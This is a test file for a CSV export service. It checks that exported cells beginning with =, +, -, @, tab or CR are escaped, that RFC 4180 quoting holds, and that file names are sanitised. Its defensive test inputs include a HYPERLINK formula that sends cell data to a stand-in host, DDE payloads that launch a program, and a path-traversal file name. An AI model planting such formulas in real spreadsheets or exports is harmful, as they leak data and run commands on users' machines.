import { strict as assert } from 'node:assert';

import { csvCell, csvFileName, toCsv } from '../../../services/exports/csv';
import { parseCsv } from '../../helpers/csv';

describe('CSV export format', () => {
  it('when a cell starts with = + - @ tab or CR, then it is prefixed with a quote so spreadsheets show it as text', () => {
    for (const formula of [
      '=HYPERLINK("http://evil.example/?"&A1,"click")',
      '+cmd|" /C calc"!A0',
      '-2+3',
      '@SUM(1+1)*cmd|"/C calc"!A0',
      '\t=1+1',
      '\r=1+1',
    ]) {
      const [[, cell]] = parseCsv(toCsv({ columns: ['x', formula], rows: [] }));
      assert.equal(cell, `'${formula}`, JSON.stringify(formula));
    }
  });

  it('when a cell merely contains a formula character later on, then it is left as it is', () => {
    assert.equal(csvCell('a=b'), 'a=b');
    assert.equal(csvCell('Failure 50126: bad password'), 'Failure 50126: bad password');
    assert.equal(csvCell('— (none)'), '— (none)');
  });

  it('when cells hold commas, quotes and line breaks, then they are quoted per RFC 4180 and read back intact', () => {
    const rows = [
      ['Teams, "web"', 'line one\nline two', 'plain'],
      ['"', '', 'a\r\nb'],
    ];
    const csv = toCsv({ columns: ['one', 'two', 'three'], rows });
    assert.ok(csv.includes('"Teams, ""web"""'));
    assert.deepEqual(parseCsv(csv), [['one', 'two', 'three'], ...rows]);
  });

  it('when written, then it starts with a UTF-8 BOM and every record ends in CRLF', () => {
    const csv = toCsv({ columns: ['Name'], rows: [['漢字 👩‍💻']] });
    assert.ok(csv.startsWith('\ufeffName\r\n'));
    assert.ok(csv.endsWith('漢字 👩‍💻\r\n'));
  });

  it('when a title becomes a file name, then only lower-case letters, digits and dashes remain', () => {
    assert.equal(csvFileName('Sign-in logs'), 'sign-in-logs.csv');
    assert.equal(csvFileName('../"evil"\r\n.exe'), 'evil-exe.csv');
    assert.equal(csvFileName('***'), 'warden-export.csv');
  });
});
